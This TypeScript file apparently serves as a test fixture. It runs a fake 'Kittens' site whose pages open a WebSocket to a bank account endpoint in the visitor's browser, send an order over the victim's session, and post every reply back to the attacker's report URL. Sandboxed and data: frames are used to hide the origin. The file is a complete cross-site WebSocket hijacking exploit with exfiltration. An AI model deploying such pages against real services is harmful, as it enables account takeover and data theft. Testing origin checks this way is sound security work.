/** An attacker's site: its pages open a WebSocket to the bank, in the browser of whoever looks at them. */

import { once } from 'node:events';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { text } from 'node:stream/consumers';

/** What pages of the site report to it: what they were sent, and how it ended. */
export type Report = (line: string) => void;

export interface Attacker {
  readonly port: number;
  close(): void;
}

/** Where a page may stand, by the path that has it. */
export const PLACES = {
  /** A page as others are. */
  '/': (page: string) => page,
  /** In a frame that has no origin, since the page around it takes that away. */
  '/sandbox': (page: string) => frameWith(`sandbox="allow-scripts" srcdoc="${escaped(page)}"`),
  /** In a frame whose address is the page itself. */
  '/data': (page: string) => frameWith(`src="data:text/html,${encodeURIComponent(page)}"`),
} as const satisfies Readonly<Record<string, (page: string) => string>>;

export type Place = keyof typeof PLACES;

/**
 * Starts it.
 *
 * @param bank  the address of the account: `ws://bank.localhost:7616/account`
 * @param order  what the page tells the bank to do
 */
export async function startAttacker(port: number, bank: string, order: string, report: Report): Promise<Attacker> {
  const site: Server = createServer(async (request, response) => {
    const { url = '/', method, headers } = request;
    if (method === 'POST') {
      const said = await text(request);
      response.end();
      report(said);
      return;
    }
    const place = PLACES[url as Place];
    response.statusCode = place === undefined ? 404 : 200;
    response.setHeader('Content-Type', 'text/html; charset=utf-8');
    response.end(place?.(pageFor(bank, order, `http://${headers.host}/report`)));
  });
  await once(site.listen(port, '127.0.0.1'), 'listening');
  return {
    port: (site.address() as AddressInfo).port,
    close: () => void site.close().closeAllConnections(),
  };
}

function pageFor(bank: string, order: string, home: string): string {
  return `<!doctype html><title>Kittens</title><h1>Kittens</h1>${scriptFor(bank, order, home)}`;
}

/** What it all takes: no cookie is in it, and no password. */
function scriptFor(bank: string, order: string, home: string): string {
  return `<script>
    const socket = new WebSocket(${JSON.stringify(bank)});
    let told = Promise.resolve();
    const report = (body) => {
      told = told.then(() => fetch(${JSON.stringify(home)}, { method: 'POST', mode: 'no-cors', body }));
    };
    socket.onopen = () => socket.send(${JSON.stringify(order)});
    socket.onmessage = ({ data }) => report('read: ' + data);
    socket.onclose = ({ code }) => report('closed: ' + code);
  </script>`;
}

function frameWith(attributes: string): string {
  return `<!doctype html><title>Kittens</title><iframe title="Kittens" ${attributes}></iframe>`;
}

function escaped(text: string): string {
  return text.replaceAll('&', '&amp;').replaceAll('"', '&quot;');
}
